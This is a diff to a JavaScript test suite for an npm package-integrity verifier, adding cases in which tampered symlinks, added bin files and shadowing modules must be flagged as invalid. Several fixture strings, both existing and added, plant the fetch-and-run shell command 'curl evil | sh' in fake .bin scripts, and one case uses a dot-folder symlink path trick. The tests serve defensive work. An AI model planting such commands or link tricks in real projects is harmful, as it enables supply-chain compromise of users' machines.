@@ -610,6 +610,17 @@ describe('3. what is on disk (EEXTRANEOUS, EBINLINK, ECONTENTMODIFIED)', () => {
     },
     { name: '.bin/alpha replaced by a regular file', location: 'node_modules/.bin/alpha', change: (dir) => { fs.rmSync(path.join(dir, 'node_modules/.bin/alpha')); put(dir, 'node_modules/.bin/alpha', '#!/bin/sh\ncurl evil | sh\n') }, expected: binLink },
     { name: 'a new .bin/evil link to a file no package declares as a bin', location: 'node_modules/.bin/evil', change: (dir) => relink(dir, 'node_modules/.bin/evil', '../kit/lib/b/index.js'), expected: binLink },
+    {
+      name: '.bin/alpha through a link in a dot folder (the text ../.x/y/../../alpha/cli.js names alpha\'s bin, the kernel opens .x/alpha/cli.js)',
+      location: 'node_modules/.bin/alpha',
+      change: (dir) => {
+        put(dir, 'node_modules/.x/alpha/cli.js', '#!/bin/sh\ncurl evil | sh\n')
+        fs.mkdirSync(path.join(dir, 'node_modules/.x/q/r'), { recursive: true })
+        relink(dir, 'node_modules/.x/y', 'q/r')
+        relink(dir, 'node_modules/.bin/alpha', '../.x/y/../../alpha/cli.js')
+      },
+      expected: binLink,
+    },
     { name: 'a new nested .bin link (gamma/node_modules/.bin/evil)', location: 'node_modules/gamma/node_modules/.bin/evil', change: (dir) => relink(dir, 'node_modules/gamma/node_modules/.bin/evil', '../beta/index.js'), expected: binLink },
     {
       name: 'a package folder replaced by a file (require loads node_modules/beta as a file)',
@@ -644,6 +655,34 @@ describe('3. what is on disk (EEXTRANEOUS, EBINLINK, ECONTENTMODIFIED)', () => {
       expected: INVALID('ECONTENTMODIFIED'),
     },
   ])
+})
+
+// Packages whose commands come from `directories.bin`, and whose code loads a folder through
+// its own package.json `main`; each with an install script (so added files alone are only
+// reported), installed by npm into their own project.
+describe('3c. commands and folders Node loads, in packages with install scripts', () => {
+  let project
+  before(async () => {
+    publish(registry, { name: 'dirbin', version: '1.0.0', scripts: { postinstall: BUILD_SCRIPT }, extra: { directories: { bin: './bin' } }, files: { 'bin/run': '#!/usr/bin/env node\nconsole.log("run")\n' } })
+    publish(registry, { name: 'libdir', version: '1.0.0', scripts: { postinstall: BUILD_SCRIPT }, files: { 'index.js': "module.exports = require('./lib/c')\n", 'lib/c/package.json': '{"main":"main.js"}\n', 'lib/c/main.js': "module.exports = 'c'\n" } })
+    project = writeProject(tempDir('attack-3c'), { name: 'victim-3c', version: '1.0.0', dependencies: { dirbin: '1.0.0', libdir: '1.0.0' } })
+    await npm(['install'], { cwd: project, registry: url, cache: npmCache })
+    fs.writeFileSync(path.join(project, '.npmrc'), `cache=${npmCache}\n`)
+  })
+  const loadable = INVALID('ECONTENTLOADABLE')
+  const list = [
+    { name: 'control: as installed (the build output of the install scripts only reported)', location: 'node_modules/dirbin', change: () => {}, expected: { exit: 0, status: 'verified', code: null } },
+    { name: '.bin/node linked to dirbin\'s signed bin/run (directories.bin links each file under its own name)', location: 'node_modules/.bin/node', change: (dir) => relink(dir, 'node_modules/.bin/node', '../dirbin/bin/run'), expected: INVALID('EBINLINK') },
+    { name: 'an added file under directories.bin (npm links it as a command at the next install)', location: 'node_modules/dirbin', change: (dir) => put(dir, 'node_modules/dirbin/bin/tsc', '#!/bin/sh\ncurl evil | sh\n'), expected: loadable },
+    { name: 'an added lib/c.js beside the folder lib/c/ that loads through its package.json main', location: 'node_modules/libdir', change: (dir) => put(dir, 'node_modules/libdir/lib/c.js', "module.exports = 'evil'\n"), expected: loadable },
+  ]
+  for (const c of list) {
+    it(`${c.name} -> ${c.expected.code || 'pass'} (exit ${c.expected.exit})`, async () => {
+      const dir = copyProject(project, 'attack-3c')
+      await c.change(dir)
+      await expectVerdict(c.name, dir, c.location, c.expected)
+    })
+  }
 })
 
 describe('3b. links the lockfile does not install (a restored node_modules)', () => {
